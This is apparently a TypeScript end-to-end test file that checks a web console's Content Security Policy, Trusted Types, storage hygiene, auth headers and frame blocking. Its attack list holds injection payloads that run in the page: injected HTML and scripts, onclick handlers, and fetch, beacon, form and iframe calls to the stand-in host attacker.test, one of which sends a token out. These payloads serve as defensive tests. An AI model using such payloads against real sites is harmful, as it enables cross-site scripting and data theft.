import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@jest/globals';
import { announced, button, rowNames, waitForRows, waitForViolation } from './support/page-content.ts';
import { startTestServer } from './support/test-server.ts';
import { hostileNames } from './support/views.ts';

const newProjects = startTestServer();

/** Ways to run a script, to load a file, or to send data. Each is evaluated in the page and must have no effect. */
const attacks: readonly (readonly [string, RegExp, () => unknown])[] = [
  ['HTML in an element', /^require-trusted-types-for/, () => (document.body.innerHTML = '<b>injected</b>')],
  [
    'a script in the page',
    /^(script-src-elem|require-trusted-types-for) /,
    () => {
      const script = document.createElement('script');
      script.append('globalThis.isInjected = true');
      document.body.append(script);
    },
  ],
  [
    'a script of another origin',
    /^(script-src-elem|require-trusted-types-for) /,
    () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://attacker.test/script.js');
      document.body.append(script);
    },
  ],
  [
    'a text as a script',
    /^(script-src|require-trusted-types-for) /,
    () => (setTimeout as (code: string) => unknown)('globalThis.isInjected = true'),
  ],
  [
    'an attribute with a script',
    /^(script-src-attr|require-trusted-types-for) /,
    () => {
      document.body.setAttribute('onclick', 'globalThis.isInjected = true');
      document.body.click();
    },
  ],
  ['a policy of trusted types', /^trusted-types /, () => (globalThis as any).trustedTypes.createPolicy('default', {})],
  ['a request to another origin', /^connect-src https:\/\/attacker\.test/, () => fetch('https://attacker.test/')],
  ['a beacon', /^connect-src /, () => navigator.sendBeacon('https://attacker.test/', 'token')],
  ['an image of another origin', /^img-src /, () => (new Image().src = 'https://attacker.test/image.png')],
  [
    'an attribute with styles',
    /^style-src-attr /,
    () => document.body.setAttribute('style', 'background: url(https://attacker.test/image.png)'),
  ],
  [
    'a style sheet',
    /^style-src-elem /,
    () => {
      const style = document.createElement('style');
      style.append('body { background: red }');
      document.head.append(style);
    },
  ],
  [
    'a form',
    /^form-action /,
    () => {
      const form = document.createElement('form');
      form.action = 'https://attacker.test/';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'a frame',
    /^frame-src /,
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.test/';
      document.body.append(frame);
    },
  ],
  [
    'another base of the addresses',
    /^base-uri /,
    () => {
      const base = document.createElement('base');
      base.href = 'https://attacker.test/';
      document.head.append(base);
    },
  ],
];

test.each(attacks)('%s is blocked', async (_name, violation, attack) => {
  const { open } = newProjects();
  // A blocked request is an event of the browser too, before it is blocked.
  const page = await open({ errors: /./, violations: violation, origins: ['https://attacker.test'] });
  await page.evaluate(attack).catch(() => undefined);
  await waitForViolation(page, violation);
  expect(await page.evaluate(() => 'isInjected' in globalThis)).toBe(false);
  expect(await page.getByText('injected').count()).toBe(0);
});

test('names with HTML are texts', async () => {
  const { owner, receiverId, open } = newProjects();
  await owner.offerImages(
    receiverId,
    hostileNames.map((name) => ({ name, tags: [name.slice(0, 100)] })),
  );
  const page = await open();
  // A name of spaces is shown as the id, and a name without its control characters of directions.
  const shown = hostileNames.map((name) => name.replace(/[\u202e\u2066]/g, ''));
  expect((await rowNames(page)).slice(1)).toEqual(shown.slice(0, -1).toReversed());
  expect(await page.locator('img, script:not([src]), main b').count()).toBe(0);
  const html = hostileNames.find((name) => name.startsWith('<'))!;
  await button(page, `Reject ${html}`).click();
  await announced(page, 'status', `Rejected “\u2068${html}\u2069”.`);
  expect(await page.locator('img').count()).toBe(0);
});

test('the page stores nothing, and a reload signs out', async () => {
  const { owner, receiverId, open } = newProjects();
  await owner.offerImages(receiverId, [{ name: 'one' }]);
  const page = await open();
  await button(page, 'Accept one').click();
  await announced(page, 'status', 'Accepted “\u2068one\u2069”.');
  await page.getByRole('link', { name: 'Accepted 1' }).click();
  await waitForRows(page, ['one']);
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: 'caches' in globalThis ? (await caches.keys()).length : 0,
    workers: 'serviceWorker' in navigator ? (await navigator.serviceWorker.getRegistrations()).length : 0,
    history: JSON.stringify(history.state),
    name: window.name,
  }));
  expect(stored).toEqual({
    ...{ local: 0, session: 0, cookies: '', databases: 0, caches: 0, workers: 0, history: 'null', name: '' },
  });
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.content()).not.toContain('dev:');
  expect(page.url()).toMatch(/\/console\/index\.html#accepted$/);
  await page.reload();
  await button(page, 'Sign in').waitFor();
});

test('requests carry the token in a header, no cookie and no referrer, and are not cached', async () => {
  const { open, receiverId } = newProjects();
  const page = await open();
  const [request] = await Promise.all([
    page.waitForRequest('**/sharing/v1/project'),
    page.evaluate(() => document.dispatchEvent(new Event('visibilitychange'))),
  ]);
  const headers = await request.allHeaders();
  expect(headers['x-auth-token']).toBe(`dev:bob:${receiverId}:member`);
  expect(headers).not.toHaveProperty('cookie');
  expect(headers).not.toHaveProperty('referer');
  expect(headers['cache-control']).toBe('no-cache');
});

test('another page cannot embed the page', async () => {
  const { openSignIn } = newProjects();
  const page = await openSignIn();
  const address = page.url();
  const other = await page.context().browser()!.newPage();
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${address}"></iframe>`);
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  try {
    const blocked = other.waitForEvent('requestfailed');
    await other.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    const request = await blocked;
    expect(request.url()).toBe(address);
    expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  } finally {
    await other.close();
    server.close();
  }
});
